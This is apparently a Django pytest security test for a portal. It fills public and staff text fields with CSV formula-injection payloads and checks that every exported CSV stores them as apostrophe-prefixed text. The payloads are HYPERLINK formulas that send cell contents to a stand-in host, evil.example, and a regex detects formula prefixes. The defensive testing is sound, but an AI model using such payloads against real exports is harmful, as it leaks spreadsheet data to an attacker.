"""Formulas in CSV files (#22 §4): a formula typed into any public or staff text field reaches
every CSV the portal produces (evidence packs, masked and with personal data, the survey export,
any CSV page or CSV inside a ZIP download) only as text, with the apostrophe in front."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import timedelta

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from apps.actions import services as action_services
from apps.complaints import services as complaint_services
from apps.complaints.models import Complaint, ComplaintMessage
from apps.core.clauses import CLAUSES
from apps.customers import services as customer_services
from apps.evidence import services as evidence
from apps.feedback.models import Feedback
from apps.objectives.services import objectives as objective_services
from apps.requirements import services as requirement_services
from apps.surveys.models import QuestionKind, Response
from apps.surveys.services import campaigns as campaign_services
from tests.security.routes import page_patterns
from tests.security.world import page_kwargs

# OWASP's prefixes, also after leading blanks (some importers trim them before evaluating).
FORMULA = re.compile(r"^[\t\r]|^[ \t\r\n]*[-=+@]")
PREFIXES = ["=", "+", "-", "@", "\t=", "\r=", " =", "\n@"]


class Payloads:
    """A different formula per field (the prefixes in turn), so a failure names the field. Forms
    strip leading blanks, services mostly keep them: `by_field` holds the value either way."""

    def __init__(self):
        self.by_field: dict[str, str] = {}

    def __call__(self, field: str) -> str:
        prefix = PREFIXES[len(self.by_field) % len(PREFIXES)]
        self.by_field[field] = f'{prefix}HYPERLINK("http://evil.example/?l="&A1,"f{field}")'
        return self.by_field[field]


def _answers(invitation, text: str) -> dict[str, str]:
    fixed = {QuestionKind.NPS: "9", QuestionKind.CSAT: "5", QuestionKind.CES: "6"}
    answers = {}
    for question in invitation.campaign.template_version.questions.all():
        if question.kind == QuestionKind.TEXT:
            answers[f"q{question.pk}"] = text
        else:
            answers[f"q{question.pk}"] = fixed.get(question.kind) or question.choices[0]
    return answers


@pytest.fixture
def formula_world(world, personas):
    """The demo organisation with a formula in every text field the public fills in (complaint,
    feedback, survey answer, information added on the tracking page) and in the staff's (customer,
    interaction, requirement, corrective action, objective, complaint reply, campaign, a reason)."""
    payload, manager = Payloads(), personas["quality_manager"]
    public = Client()
    public.post(
        reverse("complaints:public_new"),
        {
            "complainant_name": payload("complainantname"),
            "complainant_email": "pat@example.org",
            "customer_name": payload("organisation"),
            "order_reference": payload("orderref"),
            "description": payload("description"),
            "desired_outcome": payload("outcome"),
        },
    )
    complaint = Complaint.objects.order_by("-pk").first()
    assert complaint.customer_name == payload.by_field["organisation"].strip(), "the complaint was not recorded"
    public.post(
        reverse("feedback:submit"),
        {
            "text": payload("feedbacktext"),
            "rating": "2",
            "submitter_name": payload("feedbackname"),
            "submitter_email": "pat@example.org",
        },
    )
    assert Feedback.objects.order_by("-pk").first().text == payload.by_field["feedbacktext"].strip()
    invitation = world["invitation"]
    public.post(reverse("surveys_public:answer", args=[invitation.token]), _answers(invitation, payload("surveytext")))
    assert Response.objects.filter(invitation=invitation).exists(), "the survey answer was not recorded"
    complaint_services.customer_add_information(complaint_id=complaint.pk, body=payload("customermessage"))

    complaint_services.message_add(
        complaint_id=complaint.pk,
        actor=manager,
        body=payload("staffreply"),
        visibility=ComplaintMessage.Visibility.CUSTOMER,
    )
    customer = invitation.customer
    customer_services.customer_update(
        customer_id=customer.pk, actor=manager, name=payload("customername"), reason=payload("reason")
    )
    customer_services.interaction_log(
        customer_id=customer.pk,
        actor=manager,
        occurred_at=timezone.now(),
        channel=world["interaction"].channel,
        summary=payload("interaction"),
    )
    requirement_services.requirement_create(
        actor=manager,
        customer=customer,
        title=payload("requirementtitle"),
        description=payload("requirementtext"),
        acceptance_criteria=payload("acceptance"),
        type=world["requirement"].type,
        source=world["requirement"].source,
    )
    action_services.action_raise(
        source=None,
        title=payload("actiontitle"),
        nonconformity=payload("nonconformity"),
        containment=payload("containment"),
        actor=manager,
    )
    objective_services.objective_update(
        objective_id=world["objective"].pk, actor=manager, title=payload("objective"), reason="formula check"
    )
    campaign_services.campaign_update(campaign_id=invitation.campaign_id, actor=manager, name=payload("campaign"))
    world["payloads"] = payload.by_field
    world["campaign"] = invitation.campaign
    return world


def _read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _pack_csvs(archive: zipfile.ZipFile, label: str) -> dict[str, list[list[str]]]:
    return {f"{label}:{name}": _read_csv(archive.read(name)) for name in archive.namelist() if name.endswith(".csv")}


def _every_csv(world, personas, clients) -> dict[str, list[list[str]]]:
    """Both kinds of evidence pack of every clause, then every page a quality manager can open:
    a CSV response is read, and so is every CSV inside a ZIP download."""
    today = timezone.localdate()
    found = {}
    for persona, personal in (("auditor", False), ("quality_manager", True)):
        pack = evidence.pack_request(
            actor=personas[persona],
            clauses=list(CLAUSES),
            period_start=today - timedelta(days=400),
            period_end=today,
            include_personal_data=personal,
            enqueue=False,
        )
        pack = evidence.pack_build(pack_id=pack.pk)
        assert pack.status == "ready"
        found |= _pack_csvs(zipfile.ZipFile(evidence.pack_path(pack)), f"pack-{persona}")
    world["pack"] = pack  # the manager's, which the walk downloads again

    client = clients["quality_manager"]
    for name, pattern in page_patterns():
        if name.startswith(("surveys_public:", "accounts:password_reset_confirm", "complaints:track")):
            continue
        response = client.get(reverse(name, kwargs=page_kwargs(name, pattern, world)))
        if response.status_code != 200:
            continue
        body = b"".join(response.streaming_content) if response.streaming else response.content
        kind = response.get("Content-Type", "")
        if kind.startswith("text/csv"):
            found[name] = _read_csv(body)
        elif kind in ("application/zip", "application/x-zip-compressed"):
            found |= _pack_csvs(zipfile.ZipFile(io.BytesIO(body)), name)
    return found


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.django_db
def test_no_csv_the_portal_produces_holds_a_live_formula(formula_world, personas, clients):
    csvs = _every_csv(formula_world, personas, clients)
    # The walk found the producers there are today (a new one is read without editing this test).
    assert "surveys:campaign_export" in csvs
    assert any(name.startswith("evidence:pack_download:") for name in csvs)
    assert "pack-auditor:records/complaints.complaint--complaints-received.csv" in csvs

    live, neutralised = [], {}
    for name, rows in csvs.items():
        for row in rows:
            for cell in row:
                if FORMULA.match(cell) and not _is_number(cell):
                    live.append((name, cell[:60]))
                if cell.startswith("'"):
                    neutralised.setdefault(cell[1:], set()).add(name)
    assert live == []

    payloads = formula_world["payloads"]
    # Every formula did reach a CSV, as a cell of its own with the apostrophe in front.
    found = {
        field: neutralised.get(payload, set()) | neutralised.get(payload.strip(), set())
        for field, payload in payloads.items()
    }
    assert {field for field, files in found.items() if not files} == set()
    # The case: the organisation in every pack, the auditor's masked one included.
    for label in ("pack-auditor", "pack-quality_manager"):
        assert f"{label}:records/complaints.complaint--complaints-received.csv" in found["organisation"]
    assert "surveys:campaign_export" in found["surveytext"]
    assert "surveys:campaign_export" in found["customername"]
